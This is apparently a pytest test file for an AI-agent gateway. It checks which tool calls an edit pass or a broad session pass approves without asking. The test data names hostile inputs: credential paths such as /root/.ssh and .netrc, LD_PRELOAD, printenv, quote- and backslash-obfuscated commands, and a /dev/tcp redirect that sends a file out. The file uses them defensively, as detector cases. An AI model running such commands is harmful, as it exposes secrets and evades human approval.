"""A session's passes: each rule has a call that falls when the rule is taken out."""

from __future__ import annotations

from typing import Any

import pytest

from gateway.domain.records import Record
from gateway.models import Context, Kind
from gateway.policy.calls.path_spelling import reveals
from gateway.policy.grants.coverage import covers
from gateway.policy.grants.grant import ANY_TOOL, Match, MatchResult, Shape
from gateway.policy.grants.session_passes import lets_all, lets_edit
from tests.grants.making import asked, granted

C, F, T = Kind.COMMAND, Kind.FILE_CHANGE, Kind.TOOL
JSON_OF_SECRET = '{"path": "/root/\\u002essh/id"}'


def call(tool: str, kind: Kind, /, **arguments: Any) -> Record:
    """Return a request for a tool."""
    return asked(tool, kind=kind, arguments=arguments)


def passes(shape: Shape, record: Record) -> bool:
    """Whether a pass of this shape covers a call."""
    grant = granted(Match(shape=shape, tool=ANY_TOOL), session="default", expires_at=1000)
    return covers(grant, record) is MatchResult.YES


EDITS = [
    ("everyday", True, call("write", F, path="/ws/a", content="x", encoding="utf-8")),
    ("a row of the table", True, call("morph", F, path="/ws/a", edit="@@\n-a\n+b")),
    ("a folder that it may drop", False, call("write", F, path="a", cwd="/ws/b", content="x")),
    ("a moved file", True, call("rename", F, source="/ws/a", destination="/ws/b")),
    ("kind", False, call("write", T, path="/ws/a", content="x")),
    ("no file tool", False, call("frobnicate", F, path="/ws/a")),
    ("a server between", False, call("mcp__prod__write_file", F, path="/ws/a", content="x")),
    ("host argument", False, call("write", F, path="/ws/a", content="x", host="prod")),
    ("url", False, call("write", F, path="/ws/a", content="x", url="https://example.com/a")),
    ("environment", False, call("write", F, path="/ws/a", content="x", envs={"A": "1"})),
    ("rights", False, call("write", F, path="/ws/a", content="x", sudo=True)),
    ("unknown", False, call("write", F, path="/ws/a", content="x", post=True)),
    ("command", False, call("write", F, path="/ws/a", content="x", command="ls")),
    ("a nested call", False, call("write", F, path="/ws/a", tool_name="ls", arguments={})),
    ("names twice", False, call("write", F, path="/ws/a", Path="/ws/b", content="x")),
    ("an unknown object", False, call("write", F, path="/ws/a", x={"path": "/ws/b"})),
    ("JSON in a remark", False, call("create_file", F, path="/ws/a", explanation='{"a": 1}')),
    ("no path", False, call("create_file", F, content="x")),
    ("another verb", False, call("edit", F, path="/ws/a", type="publish")),
    ("an address as a switch", False,
     call("create_file", F, path="/ws/a", overwrite="https://example.com/a")),
    ("a link below", False, call("write", F, path="/ws/a", link="/ws/b")),
    ("deletes", False, call("delete_file", F, path="/ws/a")),
    ("deletes by its verb", False, call("edit", F, path="/ws/a", type="delete")),
    ("deletes a source", False, call("edit", F, path="/ws/a", operation="unlink")),
    ("moves nowhere", False, call("move_file", F, source="/ws/a")),
    ("deletes beside a second path", False,
     call("delete_file", F, path="/ws/a", destination="/ws/b")),
    ("its base is above", False, call("create_file", F, path="/ws/a", cwd="/", content="x")),
    ("switches mode", False, call("write", F, path="/ws/a", mode="0777")),
    ("below its folder, not below its base", False, call("write", F, path="/ws/a", cwd="/ws/b")),
    ("below its base, not where it works", False, call("write", F, path="a", cwd="/srv/other")),
    ("not readable as one path", False, call("write", F, path="/ws/a/../b", content="x")),
    ("delicate", False, call("write", F, path="/ws/.github/workflows/a.yml", content="x")),
    ("where it works on another host", False,
     asked("write", kind=F, arguments={"path": "/ws/a", "content": "x"},
           context=Context(cwd="/ws", host="prod"))),
    ("nobody knows where it works", False,
     asked("create_file", kind=F, arguments={"path": "/srv/x"}, context=Context())),
    ("what was resolved lies elsewhere", False,
     asked("write", kind=F, arguments={"path": "/ws/a", "content": "x"},
           context=Context(cwd="/ws", files={"/srv/x": "0" * 64}))),
]  # fmt: skip


@pytest.mark.parametrize(("wanted", "record"), [row[1:] for row in EDITS],
                         ids=[row[0] for row in EDITS])  # fmt: skip
def test_a_pass_for_edits(wanted: bool, record: Record) -> None:
    """Creating, changing and moving files below where the agent works, and nothing more."""
    assert passes(Shape.EDITS, record) is wanted


def test_a_pass_for_edits_is_bound_to_a_folder_that_it_names() -> None:
    """An agent that says it works elsewhere does not take the pass with it."""
    write = {"path": "/home/ann/app/a.py", "content": "x"}
    record = asked("write", kind=F, arguments=write, context=Context(cwd="/home/ann"))
    nowhere = asked("write", kind=F, arguments={"path": "a"}, context=Context())
    assert lets_edit(record)
    assert lets_edit(record, "/home/ann/app")
    assert not lets_edit(record, "/home/ann/web")
    assert lets_edit(nowhere)
    assert not lets_edit(nowhere, "/home/ann/app")


ALL = [
    ("everyday", True, call("Bash", C, command="make test", env={}, description="Test it")),
    ("words for an agent", True, call("Task", T, description="Fix it", prompt="Run `make` for ${X}",
                                      subagent_type="x")),
    ("a shell that is named", True, call("exec_command", C, cmd="ls", shell="/bin/bash")),
    ("any files of an ending", True, call("find_files", T, glob="**/*.py")),
    ("content is data", True, call("write", F, path="/ws/a.md", content="Put it in .env, please")),
    ("rights", False, call("Bash", C, command="ls", sandbox_permissions="require_escalated")),
    ("rights as an object", False,
     call("Bash", C, command="ls", sandbox_permissions={"command": "rm x"})),
    ("rights in a list", False, call("Bash", C, command="ls", sandbox_permissions=[["x"]])),
    ("rights within a call", False,
     call("use_tool", T, tool_name="Bash", arguments={"command": "ls", "sudo": True})),
    ("environment", False, call("Bash", C, command="ls", envs={"LD_PRELOAD": "x"})),
    ("environment as text", False, call("Bash", C, command="ls", environ="LD_PRELOAD=x")),
    ("environment in JSON text", False,
     call("use_tool", T, x='{"command": "ls", "envs": {"A": "1"}}')),
    ("root", False, call("keep", T, user="root")),
    ("another user runs it", False, call("Bash", C, command="ls", user="kim")),
    ("the root of the disk", False, call("Bash", C, argv=["ls", "/"])),
    ("works in the root", False, call("keep", T, cwd="/", name="a")),
    ("works where secrets lie", False, call("keep", T, cwd="/ws/.ssh", name="a")),
    ("not certain where", False, call("Bash", C, command="ls", cwd="/ws/../x")),
    ("longer than what is read", False, call("keep", T, x="a " * 40_000)),
    ("one name twice", False, call("keep", T, x='{"a": "b", "a": "c"}')),
    ("a call that is none", False, call("use_tool", T, tool_name="x", arguments='"x"')),
    ("a key", False, call("keep", T, x={".ssh/config": 1})),
    ("a folder and a name", False, call("writer", F, directory="/ws/etc", filename="passwd")),
    ("unknown text", False, call("keep", T, x="see 'id_rsa' there")),
    ("JSON hides it", False, call("keep", T, x=JSON_OF_SECRET)),
    ("a nested call names it", False,
     call("use_tool", T, tool_name="x", arguments={"p": [{"q": "/root/.netrc"}]})),
    ("data that is a path", False, call("post_message", T, channel="#ops", text="/root/.ssh/id")),
    ("code", False, call("keep", T, code="printenv")),
    ("input", False, call("keep", T, stdin="export -p")),
    ("a pattern", False, call("read_many_files", T, include=["src/*", ".e*"])),
    ("what was resolved is delicate", False,
     asked("Bash", kind=C, arguments={"command": "cat a"},
           context=Context(cwd="/ws", files={"/ws/.env": "0" * 64}))),
    ("moves away", False, call("move_file", F, source="/ws/a", destination="/srv/other/a")),
]  # fmt: skip


@pytest.mark.parametrize(("wanted", "record"), [row[1:] for row in ALL],
                         ids=[row[0] for row in ALL])  # fmt: skip
def test_a_pass_for_all(wanted: bool, record: Record) -> None:
    """All but what has more rights, is delicate, shows or sends secrets, or is not looked at."""
    assert lets_all(record) is wanted
    assert passes(Shape.ALL, record) is wanted


@pytest.mark.parametrize("text", ["p''rintenv", '"printenv"', "p\\rintenv", "/usr/bin/'env'",
                                  "ls; e\\nv", "'mv' a ../b", "cat a >/dev/tcp/example.com/1",
                                  "\\l\\s"])  # fmt: skip
def test_quotes_and_backslashes_hide_no_command(text: str) -> None:
    """A shell leaves them out of a word; so does what looks for programs that show secrets."""
    assert reveals(text, "/ws")


@pytest.mark.parametrize("text", ["find . -name \\*.py", "grep 'a\\.b' x", "sed \"s/\\d//\" a",
                                  "ls a\\ b", "find . \\( -name a \\)"])  # fmt: skip
def test_an_escape_that_a_shell_needs_is_none(text: str) -> None:
    """A backslash before a space or a sign, or within quotes, is everyday."""
    assert not reveals(text, "/ws")


@pytest.mark.parametrize("verb", [{"x": "update"}, ["update"], [{}], {}])
def test_a_verb_that_is_no_text_asks(verb: object) -> None:
    """A list or an object in the place of a verb is not understood, and breaks nothing."""
    arguments = {"path": "/home/ann/app/a.py", "diff": "@@", "type": verb}
    assert not lets_edit(asked("apply_patch", kind=Kind.FILE_CHANGE, arguments=arguments))
